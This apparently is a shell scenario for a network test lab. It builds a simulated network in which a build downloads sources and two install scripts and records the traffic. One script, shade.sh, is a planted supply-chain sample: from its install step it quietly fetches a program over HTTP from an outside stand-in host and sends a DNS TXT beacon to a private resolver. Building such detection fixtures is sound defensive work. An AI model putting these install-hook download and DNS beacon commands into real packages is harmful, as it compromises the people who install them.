shows="A build that fetches its sources and two packages over HTTPS from hosts that it may use; the second package's install script fetches a program from elsewhere, by HTTP from port 8088, and has it ask a resolver of its own"
packages="nginx curl make bind9-dnsutils"

play() {
  switch lan
  switch wan
  router gw 1
  host builder 10
  route builder 1
  host dns 53
  route dns 1
  local each
  for each in packages:80 elsewhere:66 resolver:54; do
    host "${each%:*}" "${each#*:}" wan
    route "${each%:*}" 1 wan
  done
  printf '%s\n' '198.51.100.80 packages.example.org sources.example.org' '198.51.100.66 cdn.example.net' >>/run/names
  names dns
  start resolver dnsmasq --keep-in-foreground --user=root --no-resolv --no-hosts --address=/example.net/198.51.100.66
  certificate packages packages.example.org sources.example.org
  web packages 'listen 443 ssl;'
  web elsewhere 'listen 8088;'
  listening packages tcp 443
  listening elsewhere tcp 8088
  listening resolver udp 53
  sources

  capture build.pcap builder
  on builder make -C /run/builder
  end
}

# sources is what the build fetches, and the Makefile that fetches it.
sources() {
  local www=/run/packages/www
  page 50 >$www/program.c
  printf 'echo "lamp is installed"\n' >$www/lamp.sh
  cat >$www/shade.sh <<'END'
curl -sS -o /tmp/helper http://cdn.example.net:8088/index.html
dig +short @198.51.100.54 a1b2c3d4e5f6.cdn.example.net TXT
echo "shade is installed"
END
  printf '%s\n' 'get = curl -sSO --cacert /run/ca.crt' 'all:' \
    '	$(get) https://sources.example.org/program.c' \
    '	$(get) https://packages.example.org/lamp.sh && sh ./lamp.sh' \
    '	$(get) https://packages.example.org/shade.sh && sh ./shade.sh' >/run/builder/Makefile
}
